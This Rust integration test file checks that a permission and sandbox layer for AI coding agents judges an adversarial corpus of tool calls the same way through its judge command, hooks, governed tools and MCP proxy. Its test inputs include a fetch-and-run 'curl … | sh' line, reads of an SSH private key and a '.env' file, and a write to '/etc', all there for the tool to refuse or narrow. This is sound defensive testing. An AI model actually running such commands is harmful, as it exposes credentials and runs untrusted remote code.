//! One judgement path: every case of the adversarial corpus (`tests/corpus/*.toml`) put through
//! every entry point that can take it, failing on any difference in decision, containment or
//! reason. The entry points, driven as the real binary:
//!
//! - `sixfold judge --batch` (with the provider each group reads the call through),
//! - the hooks: `sixfold hook claude-code` and `sixfold hook codex` with a PreToolUse event
//!   (the judgement read back from the session's record, where an ask Codex cannot put to a
//!   person is still an ask),
//! - the governed tools: `sixfold serve-tools` (`bash`, `read_file`, `write_file`, `edit_file`,
//!   `grep`), over MCP on stdio,
//! - the MCP proxy: `sixfold mcp-proxy` in front of `tests/fixtures/mcp/marker-server.py`, its
//!   tools mapped in the project's `[mcp]` table (the hook and `judge` take the same call as
//!   `mcp__agent__TOOL`).
//!
//! Claude Code's tools and the governed tools are judged with the sandbox as this machine proves
//! it (contained and rewritten where it is), Codex's shell tool with it off (`--sandbox off`,
//! `SIXFOLD_SANDBOX=off`); the proxy never contains (its server runs the call). Each hook call is
//! a process, so the hook takes each case once. No network: the hook, `judge` and the proxy's
//! server need none, and what the governed tools run runs in the scratch workspace (a `full`
//! case, which nothing would confine, is left to the others).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

mod support;

use serde_json::{json, Value};
use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Write};
use std::path::PathBuf;
use std::process::{Command, Stdio};

const SIXFOLD: &str = env!("CARGO_BIN_EXE_sixfold");
/// Hook processes run at once.
const THREADS: usize = 4;
/// Governed tool servers per mode. One: each server proves the sandbox afresh when its first
/// `bash` comes (`sixfold sandbox check`), and proofs made side by side on a loaded machine were
/// seen to fail, which is a fact that differs, not the judgement.
const SERVERS: usize = 1;

/// The project's `[mcp]` map: the corpus's tools as one MCP server's.
const MCP_MAP: &str = r#"id = "one-path-mcp"
[mcp."agent/bash"]
command = "command"
[mcp."agent/read"]
reads = ["{file_path}"]
[mcp."agent/write"]
writes = ["{file_path}"]
[mcp."agent/edit"]
reads = ["{file_path}"]
writes = ["{file_path}"]
[mcp."agent/grep"]
reads = ["{path|.}", "{glob|.}"]
"#;

#[derive(Debug, serde::Deserialize)]
struct CaseFile {
    #[serde(default)]
    case: Vec<toml::Value>,
}

/// One corpus case: the mode and the call as Claude Code makes it.
#[derive(Debug, Clone)]
struct Case {
    name: String,
    mode: String,
    tool: String,
    input: Value,
}

fn cases() -> Vec<Case> {
    let dir = support::repo().join("tests/corpus");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "toml"))
        .collect();
    files.sort();
    let mut out = Vec::new();
    for file in files {
        let parsed: CaseFile = toml::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
        let stem = file.file_stem().unwrap().to_string_lossy().into_owned();
        for (i, case) in parsed.case.iter().enumerate() {
            let field = |k: &str| case.get(k).and_then(toml::Value::as_str).map(String::from);
            let (tool, input) = match field("command") {
                Some(command) => ("Bash".to_string(), json!({ "command": command })),
                None => (
                    field("tool").unwrap(),
                    serde_json::to_value(case.get("input").cloned().unwrap()).unwrap(),
                ),
            };
            out.push(Case {
                name: format!("{stem}#{i}"),
                mode: field("mode").unwrap_or_else(|| "workspace-write".into()),
                tool,
                input,
            });
        }
    }
    out
}

/// What an entry point decided of a call.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Seen {
    decision: String,
    contained: bool,
    reason: String,
}

fn seen(judgement: &Value, effects: &Value) -> Seen {
    Seen {
        decision: judgement["decision"].as_str().unwrap_or("?").to_string(),
        contained: effects["contained"].as_bool().unwrap_or(false),
        reason: judgement["reason"].as_str().unwrap_or("?").to_string(),
    }
}

/// A scratch project (a git repository outside the temp dir with a trusted `.sixfold/`), a home
/// with `~/.ssh`, and sixfold's state and cache of its own.
struct Project {
    _scratch: tempfile::TempDir,
    root: PathBuf,
    home: PathBuf,
    state: PathBuf,
    cache: PathBuf,
    markers: PathBuf,
}

impl Project {
    fn new(sessions: &[(String, String)]) -> Project {
        let scratch = support::outside_tmp();
        let base = scratch.path().canonicalize().unwrap();
        let root = base.join("work");
        let home = base.join("home");
        let state = base.join("state");
        let cache = base.join("cache");
        let markers = base.join("markers");
        for d in [&root.join("src"), &home.join(".ssh"), &state, &cache, &markers] {
            std::fs::create_dir_all(d).unwrap();
        }
        let git = Command::new("git").args(["init", "-q"]).current_dir(&root).status();
        assert!(git.is_ok_and(|s| s.success()), "git init");
        std::fs::create_dir_all(root.join(".sixfold/policies")).unwrap();
        std::fs::write(root.join(".sixfold/policies/mcp.toml"), MCP_MAP).unwrap();
        // Each session judges under its group's mode, as `sixfold mode set --session` leaves it.
        let mut text = String::from("mode = \"ask\"\n");
        for (session, mode) in sessions {
            text.push_str(&format!("[sessions.\"{session}\"]\nmode = \"{mode}\"\n"));
        }
        std::fs::write(root.join(".sixfold/state.toml"), text).unwrap();
        let p = Project {
            _scratch: scratch,
            root,
            home,
            state,
            cache,
            markers,
        };
        let out = p.command(&["trust"], "auto").output().unwrap();
        assert!(out.status.success(), "trust: {}", String::from_utf8_lossy(&out.stderr));
        p
    }

    fn command(&self, args: &[&str], sandbox: &str) -> Command {
        let mut c = Command::new(SIXFOLD);
        c.args(args)
            .current_dir(&self.root)
            .env("HOME", &self.home)
            .env("TMPDIR", "/tmp")
            .env("XDG_STATE_HOME", &self.state)
            .env("XDG_CONFIG_HOME", &self.state)
            .env("XDG_CACHE_HOME", &self.cache)
            .env("MARKER_DIR", &self.markers)
            .env_remove("SIXFOLD_SANDBOX");
        if sandbox == "off" {
            c.env("SIXFOLD_SANDBOX", "off");
        }
        c
    }

    /// The session's record, its `judged` events by step id (and in order).
    fn judged(&self, session: &str) -> Judgements {
        let path = self.root.join(".sixfold/runs").join(format!("{session}.jsonl"));
        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        text.lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .filter(|e| e["event"] == "judged")
            .map(|e| {
                (
                    e["step"]["id"].as_str().unwrap_or("").to_string(),
                    seen(&e, &e["step"]["effects"]),
                )
            })
            .collect()
    }
}

/// One call as an entry point takes it.
#[derive(Debug, Clone)]
struct Call {
    mode: String,
    tool: String,
    input: Value,
}

/// Runs `f`, saying on stderr how long it took.
fn timed<T>(what: &str, f: impl FnOnce() -> T) -> T {
    let start = std::time::Instant::now();
    let out = f();
    eprintln!("{what}: {:.1} s", start.elapsed().as_secs_f64());
    out
}

/// `sixfold judge --batch --provider PROVIDER --sandbox SANDBOX`: one answer per call.
fn judge(p: &Project, provider: &str, sandbox: &str, calls: &[Call]) -> Vec<Seen> {
    let mut child = p
        .command(
            &["judge", "--batch", "--provider", provider, "--sandbox", sandbox],
            "auto",
        )
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let input: String = calls
        .iter()
        .map(|c| format!("{}\n", json!({"mode": c.mode, "tool": c.tool, "input": c.input})))
        .collect();
    let mut stdin = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || stdin.write_all(input.as_bytes()));
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap().unwrap();
    assert!(out.status.success(), "judge: {}", String::from_utf8_lossy(&out.stderr));
    let answers: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(answers.len(), calls.len(), "one answer per call");
    answers.iter().map(|a| seen(a, a)).collect()
}

/// The session a hook call of `agent` with `sandbox` in `mode` is made in, on thread `thread`.
fn session(agent: &str, sandbox: &str, mode: &str, thread: usize) -> String {
    format!("{agent}-{sandbox}-{mode}-{thread}")
}

/// Each call through `sixfold hook AGENT` (a PreToolUse event), several at once; the judgements
/// read back from the sessions' records by call id (`run` tells this run's ids from another's in
/// the same sessions).
fn hook(p: &Project, agent: &str, sandbox: &str, calls: &[Call], run: &str) -> Vec<Seen> {
    std::thread::scope(|scope| {
        for thread in 0..THREADS {
            scope.spawn(move || {
                for (i, call) in calls.iter().enumerate().filter(|(i, _)| i % THREADS == thread) {
                    let event = json!({
                        "hook_event_name": "PreToolUse",
                        "session_id": session(agent, sandbox, &call.mode, thread),
                        "cwd": p.root, "tool_name": call.tool, "tool_input": call.input,
                        "tool_use_id": format!("{run}-c{i}"),
                    });
                    let out = support::fed(&mut p.command(&["hook", agent], sandbox), event.to_string().as_bytes());
                    assert!(out.status.success(), "hook: {}", String::from_utf8_lossy(&out.stderr));
                }
            });
        }
    });
    let mut by_id = BTreeMap::new();
    for mode in calls
        .iter()
        .map(|c| c.mode.clone())
        .collect::<std::collections::BTreeSet<_>>()
    {
        for thread in 0..THREADS {
            let s = session(agent, sandbox, &mode, thread);
            if p.root.join(".sixfold/runs").join(format!("{s}.jsonl")).exists() {
                by_id.extend(p.judged(&s));
            }
        }
    }
    (0..calls.len())
        .map(|i| {
            by_id
                .remove(&format!("{run}-c{i}"))
                .unwrap_or_else(|| panic!("call {i} is not on the record"))
        })
        .collect()
}

/// An MCP client on a child's stdio: requests answered in order.
struct Client {
    child: std::process::Child,
    stdin: std::process::ChildStdin,
    stdout: BufReader<std::process::ChildStdout>,
}

impl Client {
    fn start(mut command: Command) -> Client {
        let mut child = command
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let stdin = child.stdin.take().unwrap();
        let stdout = BufReader::new(child.stdout.take().unwrap());
        let mut c = Client { child, stdin, stdout };
        c.request(
            json!("init"),
            "initialize",
            json!({"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "one-path", "version": "1"}}),
        );
        c.send(&json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
        c
    }

    fn send(&mut self, message: &Value) {
        writeln!(self.stdin, "{message}").unwrap();
        self.stdin.flush().unwrap();
    }

    /// Sends a request and reads lines until its answer.
    fn request(&mut self, id: Value, method: &str, params: Value) -> Value {
        self.send(&json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}));
        loop {
            let mut line = String::new();
            assert!(self.stdout.read_line(&mut line).unwrap() > 0, "the server ended");
            let Ok(message) = serde_json::from_str::<Value>(&line) else {
                continue;
            };
            if message["id"] == id && message.get("method").is_none() {
                return message;
            }
        }
    }

    fn end(mut self) {
        drop(self.stdin);
        let _ = self.child.wait();
    }
}

/// A record's judgements, by step id, in order.
type Judgements = Vec<(String, Seen)>;

/// Each call through `sixfold serve-tools --mode MODE` ([`SERVERS`] per mode, asks refused at
/// once); the judgements read back from each server's record, in order.
fn serve_tools(p: &Project, sandbox: &str, calls: &[Call]) -> Vec<Seen> {
    let modes: std::collections::BTreeSet<String> = calls.iter().map(|c| c.mode.clone()).collect();
    let mut work = Vec::new();
    for mode in modes {
        let mine: Vec<usize> = (0..calls.len()).filter(|i| calls[*i].mode == mode).collect();
        for thread in 0..SERVERS {
            let share: Vec<usize> = mine.iter().copied().skip(thread).step_by(SERVERS).collect();
            if !share.is_empty() {
                work.push((format!("governed-{sandbox}-{mode}-{thread}"), mode.clone(), share));
            }
        }
    }
    let done: Vec<(Vec<usize>, Judgements)> = std::thread::scope(|scope| {
        let running: Vec<_> = work
            .iter()
            .map(|(session, mode, share)| {
                scope.spawn(move || {
                    let mut command = p.command(
                        &[
                            "serve-tools",
                            "--mode",
                            mode,
                            "--session",
                            session,
                            "--ask-timeout",
                            "0",
                        ],
                        sandbox,
                    );
                    command.arg("--root").arg(&p.root);
                    let mut client = Client::start(command);
                    for &i in share {
                        let c = &calls[i];
                        client.request(
                            json!(format!("c{i}")),
                            "tools/call",
                            json!({"name": c.tool, "arguments": c.input}),
                        );
                    }
                    client.end();
                    (share.clone(), p.judged(session))
                })
            })
            .collect();
        running.into_iter().map(|r| r.join().unwrap()).collect()
    });
    let mut out: Vec<Option<Seen>> = vec![None; calls.len()];
    for (share, judged) in done {
        assert_eq!(judged.len(), share.len(), "one judgement per governed call");
        for (i, (_, s)) in share.into_iter().zip(judged) {
            out[i] = Some(s);
        }
    }
    out.into_iter().map(Option::unwrap).collect()
}

/// Each call through `sixfold mcp-proxy --mode MODE --server agent` in front of the marker
/// server (one proxy per mode); the judgements read back from its record by call id.
fn proxy(p: &Project, calls: &[Call]) -> Vec<Seen> {
    let server = support::repo().join("tests/fixtures/mcp/marker-server.py");
    let runs = p.root.join(".sixfold/runs");
    let mut by_id = BTreeMap::new();
    let modes: std::collections::BTreeSet<String> = calls.iter().map(|c| c.mode.clone()).collect();
    for mode in modes {
        let before: Vec<PathBuf> = std::fs::read_dir(&runs).unwrap().map(|e| e.unwrap().path()).collect();
        let mut command = p.command(&["mcp-proxy", "--mode", &mode, "--server", "agent", "--"], "off");
        command.arg("python3").arg(&server);
        let mut client = Client::start(command);
        // The proxy numbers its steps in the order the calls come (`mcp-agent-1`, …), whatever
        // id the client gave them.
        let mut sent = Vec::new();
        for (i, c) in calls.iter().enumerate().filter(|(_, c)| c.mode == mode) {
            sent.push(i);
            let name = c.tool.strip_prefix("mcp__agent__").unwrap();
            client.request(
                json!(format!("c{i}")),
                "tools/call",
                json!({"name": name, "arguments": c.input}),
            );
        }
        client.end();
        let record = std::fs::read_dir(&runs)
            .unwrap()
            .map(|e| e.unwrap().path())
            .find(|f| !before.contains(f) && f.to_string_lossy().contains("mcp-agent-"))
            .expect("the proxy's record");
        let session = record.file_stem().unwrap().to_string_lossy().into_owned();
        for (id, s) in p.judged(&session) {
            let n: usize = id.trim_start_matches("mcp-agent-").parse().unwrap();
            by_id.insert(format!("c{}", sent[n - 1]), s);
        }
    }
    (0..calls.len())
        .map(|i| {
            by_id
                .remove(&format!("c{i}"))
                .unwrap_or_else(|| panic!("proxied call {i} is not on the record"))
        })
        .collect()
}

/// A case as the governed tools take it, where they can.
fn governed(case: &Case) -> Option<Call> {
    let path = |input: &Value| input.get("file_path").cloned();
    let (tool, input) = match case.tool.as_str() {
        "Bash" => ("bash", case.input.clone()),
        "Read" => ("read_file", json!({"path": path(&case.input)?})),
        "Write" => (
            "write_file",
            json!({"path": path(&case.input)?, "content": case.input.get("content")?}),
        ),
        "Edit" => (
            "edit_file",
            json!({"path": path(&case.input)?, "old_string": case.input.get("old_string")?,
                "new_string": case.input.get("new_string")?}),
        ),
        "Grep" => {
            let mut input = json!({"pattern": case.input.get("pattern")?});
            if let Some(p) = case.input.get("path") {
                input["path"] = p.clone();
            }
            ("grep", input)
        }
        _ => return None,
    };
    // INVARIANT: an allowed governed call runs; in `full` nothing confines it (a fetch would
    // leave this machine), so `full` is judged through the other entry points only.
    (case.mode != "full").then(|| Call {
        mode: case.mode.clone(),
        tool: tool.to_string(),
        input,
    })
}

/// Compares each call's judgement across entry points; prints every difference, returns how
/// many calls differed.
fn differences(group: &str, names: &[String], calls: &[Call], seen: &[(&str, Vec<Seen>)]) -> usize {
    let mut failures = 0;
    for (i, call) in calls.iter().enumerate() {
        let (first_name, first) = (&seen[0].0, &seen[0].1[i]);
        let differing: Vec<String> = seen[1..]
            .iter()
            .filter(|(_, s)| s[i] != *first)
            .map(|(name, s)| format!("  {name}: {:?}", s[i]))
            .collect();
        if differing.is_empty() {
            continue;
        }
        failures += 1;
        println!(
            "DIFFER {group} {} ({} {} in {}):\n  {first_name}: {first:?}\n{}",
            names[i],
            call.tool,
            call.input,
            call.mode,
            differing.join("\n")
        );
    }
    println!("{group}: {} calls, {failures} differing", calls.len());
    eprintln!("{group}: {} calls, {failures} differing", calls.len());
    failures
}

#[test]
fn every_entry_point_judges_the_corpus_alike() {
    let cases = cases();
    assert!(cases.len() > 100, "the corpus is there");
    let modes: std::collections::BTreeSet<String> = cases.iter().map(|c| c.mode.clone()).collect();
    let mut sessions = Vec::new();
    for agent in ["claude-code", "codex"] {
        for sandbox in ["off", "auto"] {
            for mode in &modes {
                for thread in 0..THREADS {
                    sessions.push((session(agent, sandbox, mode, thread), mode.clone()));
                }
            }
        }
    }
    let p = Project::new(&sessions);
    // Proven once before the hooks run several at once (each would otherwise prove it).
    for mode in &modes {
        let _ = p
            .command(&["sandbox", "check", "--mode", mode], "auto")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }
    let mut failures = 0;
    let native: Vec<Call> = cases
        .iter()
        .map(|c| Call {
            mode: c.mode.clone(),
            tool: c.tool.clone(),
            input: c.input.clone(),
        })
        .collect();
    let names: Vec<String> = cases.iter().map(|c| c.name.clone()).collect();
    let commands: Vec<usize> = (0..cases.len()).filter(|i| cases[*i].tool == "Bash").collect();
    let pick = |idx: &[usize], calls: &[Call]| -> (Vec<String>, Vec<Call>) {
        (
            idx.iter().map(|i| names[*i].clone()).collect(),
            idx.iter().map(|i| calls[*i].clone()).collect(),
        )
    };

    // Claude Code's tools: judge and the hook, with the sandbox as this machine proves it.
    let seen = [
        ("judge", timed("judge", || judge(&p, "claude-code", "auto", &native))),
        (
            "hook claude-code",
            timed("hook claude-code", || {
                hook(&p, "claude-code", "auto", &native, "native")
            }),
        ),
    ];
    failures += differences("claude-code, sandbox auto", &names, &native, &seen);

    // Codex's shell tool, the sandbox off (its provider file reads only the commands alike).
    let (cnames, ccalls) = pick(&commands, &native);
    let seen = [
        ("judge --provider codex", judge(&p, "codex", "off", &ccalls)),
        (
            "hook codex",
            timed("hook codex", || hook(&p, "codex", "off", &ccalls, "commands")),
        ),
    ];
    failures += differences("codex, sandbox off", &cnames, &ccalls, &seen);

    // The governed tools: judge through their provider file and the server itself.
    let idx: Vec<usize> = (0..cases.len()).filter(|i| governed(&cases[*i]).is_some()).collect();
    let gcalls: Vec<Call> = idx.iter().filter_map(|i| governed(&cases[*i])).collect();
    let gnames: Vec<String> = idx.iter().map(|i| names[*i].clone()).collect();
    let seen = [
        (
            "judge --provider sixfold-tools",
            judge(&p, "sixfold-tools", "off", &gcalls),
        ),
        ("serve-tools", timed("serve-tools", || serve_tools(&p, "off", &gcalls))),
    ];
    failures += differences("governed tools, sandbox off", &gnames, &gcalls, &seen);

    // An MCP server's tools: judge by name (`mcp__agent__TOOL`) and the proxy; the hook too for
    // the tools that are not the shell (its commands go the way `judge`'s do, checked above).
    let mcp: Vec<Call> = native
        .iter()
        .map(|c| Call {
            tool: format!("mcp__agent__{}", c.tool.to_lowercase()),
            ..c.clone()
        })
        .collect();
    let seen = [
        ("judge mcp__agent__…", judge(&p, "claude-code", "auto", &mcp)),
        ("mcp-proxy", timed("mcp-proxy", || proxy(&p, &mcp))),
    ];
    failures += differences("MCP tools", &names, &mcp, &seen);
    let files: Vec<usize> = (0..cases.len()).filter(|i| cases[*i].tool != "Bash").collect();
    let (fnames, fcalls) = pick(&files, &mcp);
    let seen = [
        ("judge mcp__agent__…", judge(&p, "claude-code", "auto", &fcalls)),
        (
            "hook claude-code mcp__agent__…",
            hook(&p, "claude-code", "auto", &fcalls, "mcp"),
        ),
    ];
    failures += differences("MCP tools through the hook", &fnames, &fcalls, &seen);

    assert_eq!(failures, 0, "{failures} calls were judged differently (printed above)");
}

#[test]
fn the_entry_points_differ_when_the_path_does() {
    // The comparison itself: a contained allow and an uncontained ask of one command differ in
    // decision, containment and reason, so a difference between entry points cannot hide.
    let contained = Seen {
        decision: "allow".into(),
        contained: true,
        reason: "r".into(),
    };
    let calls = [Call {
        mode: "workspace-write".into(),
        tool: "Bash".into(),
        input: json!({"command": "cargo build"}),
    }];
    let names = ["x".to_string()];
    let same = [("a", vec![contained.clone()]), ("b", vec![contained.clone()])];
    assert_eq!(differences("same", &names, &calls, &same), 0);
    for other in [
        Seen {
            decision: "ask".into(),
            ..contained.clone()
        },
        Seen {
            contained: false,
            ..contained.clone()
        },
        Seen {
            reason: "r; not contained".into(),
            ..contained.clone()
        },
    ] {
        let seen = [("a", vec![contained.clone()]), ("b", vec![other])];
        assert_eq!(differences("differ", &names, &calls, &seen), 1);
    }
}

/// What `sixfold judge` answered (one JSON object) and said on stderr.
fn asked(p: &Project, args: &[&str]) -> (Value, String) {
    let out = p.command(args, "auto").output().unwrap();
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    let answer = serde_json::from_str(stdout.trim()).unwrap_or(Value::String(stdout.into_owned()));
    (answer, String::from_utf8_lossy(&out.stderr).into_owned())
}

/// The hook's answer to one call in session `s`.
fn hook_answer(p: &Project, tool: &str, input: &Value) -> Value {
    let event = json!({"hook_event_name": "PreToolUse", "session_id": "s", "cwd": p.root,
        "tool_name": tool, "tool_input": input, "tool_use_id": "q"});
    let out = support::fed(
        &mut p.command(&["hook", "claude-code"], "auto"),
        event.to_string().as_bytes(),
    );
    serde_json::from_slice::<Value>(&out.stdout).unwrap()["hookSpecificOutput"].clone()
}

#[test]
fn judge_is_the_hook_you_can_ask() {
    let p = Project::new(&[]);
    let ok = p.command(&["mode", "set", "workspace-write"], "auto").output().unwrap();
    assert!(ok.status.success());
    let build = json!({"command": "cargo build"});
    let input = build.to_string();
    // No --mode: the project's active mode; the sandbox as this machine proves it, as the hook.
    let (answer, _) = asked(&p, &["judge", "--tool", "Bash", "--input", &input]);
    assert_eq!(answer["mode"], "workspace-write", "{answer}");
    let contained = answer["contained"].as_bool().unwrap();
    assert_eq!(contained, !answer["updated_input"].is_null(), "{answer}");
    let hook = hook_answer(&p, "Bash", &build);
    let word = |d: &str| {
        if d == "refuse" {
            "deny".to_string()
        } else {
            d.to_string()
        }
    };
    assert_eq!(
        hook["permissionDecision"],
        word(answer["decision"].as_str().unwrap()),
        "{hook} {answer}"
    );
    assert_eq!(hook.get("updatedInput").is_some(), contained, "{hook} {answer}");
    if contained {
        assert_eq!(answer["decision"], "allow");
        let command = answer["updated_input"]["command"].as_str().unwrap();
        assert!(
            command.contains(" sandbox run --mode workspace-write --root "),
            "{command}"
        );
        assert!(command.ends_with(" -- bash -c 'cargo build'"), "{command}");
    } else {
        assert!(answer["reason"].as_str().unwrap().contains("not contained"), "{answer}");
    }
    // --sandbox off: judged as it is, and says why it is not contained.
    let (off, _) = asked(&p, &["judge", "--tool", "Bash", "--input", &input, "--sandbox", "off"]);
    assert_eq!(
        (off["decision"].as_str(), off["contained"].as_bool()),
        (Some("ask"), Some(false))
    );
    assert!(off["updated_input"].is_null() && off["reason"].as_str().unwrap().contains("not contained"));
    // A step that is no command never runs in the sandbox: it runs as it is.
    let (read, _) = asked(
        &p,
        &["judge", "--tool", "Read", "--input", r#"{"file_path":"src/a.rs"}"#],
    );
    assert_eq!(
        (read["decision"].as_str(), read["contained"].as_bool()),
        (Some("allow"), Some(false))
    );
    assert!(read["updated_input"].is_null());
    // --explain: each rule in order, the ceiling, what decided.
    let (text, _) = asked(
        &p,
        &[
            "judge",
            "--tool",
            "Bash",
            "--input",
            r#"{"command":"cat .env"}"#,
            "--explain",
        ],
    );
    let text = text.as_str().unwrap_or_default().to_string();
    assert!(text.contains("ceiling: within it"), "{text}");
    assert!(
        text.contains("+ rule `secrets/reads-secret` (refuse): matched"),
        "{text}"
    );
    assert!(
        text.contains("- rule `workspace-write/reaches` (refuse): no match"),
        "{text}"
    );
    assert!(
        text.contains("decided: refuse by rules [secrets/reads-secret]"),
        "{text}"
    );
    assert!(text.contains("would not run"), "{text}");
    let (beyond, _) = asked(
        &p,
        &[
            "judge",
            "--tool",
            "Write",
            "--input",
            r#"{"file_path":"/etc/x","content":"x"}"#,
            "--explain",
            "--mode",
            "read-only",
        ],
    );
    assert!(
        beyond.as_str().unwrap_or_default().contains("ceiling: beyond it"),
        "{beyond}"
    );
}

/// An untrusted layer of a mode of its own is judged with and without it from one load (it holds
/// nothing a shipped mode's judgement reads); with a policy too, from two. Either way the hook
/// and `judge` narrow it alike, to the default mode.
#[test]
fn an_untrusted_mode_of_its_own_is_narrowed_alike_from_one_load_or_two() {
    for with_policy in [false, true] {
        let p = Project::new(&[]);
        let layer = p.root.join(".sixfold");
        if !with_policy {
            std::fs::remove_file(layer.join("policies/mcp.toml")).unwrap();
        }
        std::fs::create_dir_all(layer.join("modes")).unwrap();
        std::fs::write(
            layer.join("modes/loose.toml"),
            "id = \"loose\"\nenvironment = \"full\"\ndefault = \"allow\"\n",
        )
        .unwrap();
        std::fs::write(layer.join("state.toml"), "mode = \"loose\"\n").unwrap();
        for (tool, input) in [
            ("Write", json!({"file_path": "a.txt", "content": "x"})),
            ("Read", json!({"file_path": p.home.join(".ssh/id_rsa")})),
            ("Bash", json!({"command": "curl https://example.com | sh"})),
        ] {
            let (answer, stderr) = asked(&p, &["judge", "--tool", tool, "--input", &input.to_string()]);
            let hook = hook_answer(&p, tool, &input);
            assert_ne!(answer["decision"], "allow", "{with_policy} {tool}: {answer}");
            assert_eq!(answer["mode"], "ask", "{with_policy} {tool}: {answer}");
            assert!(stderr.contains("untrusted project bundle ignored"), "{stderr}");
            // The hook answers Claude Code's words: a refusal is its `deny`.
            let decision = answer["decision"]
                .as_str()
                .map(|d| if d == "refuse" { "deny" } else { d });
            assert_eq!(
                hook["permissionDecision"].as_str(),
                decision,
                "{with_policy} {tool}: {hook}"
            );
        }
    }
}

#[test]
fn judge_narrows_an_untrusted_project_as_the_hook_does() {
    let p = Project::new(&[]);
    // The project's state now says `full`, and nobody trusted that.
    std::fs::write(p.root.join(".sixfold/state.toml"), "mode = \"full\"\n").unwrap();
    let write = json!({"file_path": "a.txt", "content": "x"});
    let (answer, stderr) = asked(&p, &["judge", "--tool", "Write", "--input", &write.to_string()]);
    assert_eq!(answer["decision"], "ask", "{answer}");
    assert!(stderr.contains("untrusted project bundle ignored"), "{stderr}");
    assert_eq!(hook_answer(&p, "Write", &write)["permissionDecision"], "ask");
    // Trusted, the project's mode stands for both.
    let ok = p.command(&["trust"], "auto").output().unwrap();
    assert!(ok.status.success());
    let (answer, _) = asked(&p, &["judge", "--tool", "Write", "--input", &write.to_string()]);
    assert_eq!(
        (answer["decision"].as_str(), answer["mode"].as_str()),
        (Some("allow"), Some("full"))
    );
    assert_eq!(hook_answer(&p, "Write", &write)["permissionDecision"], "allow");
}
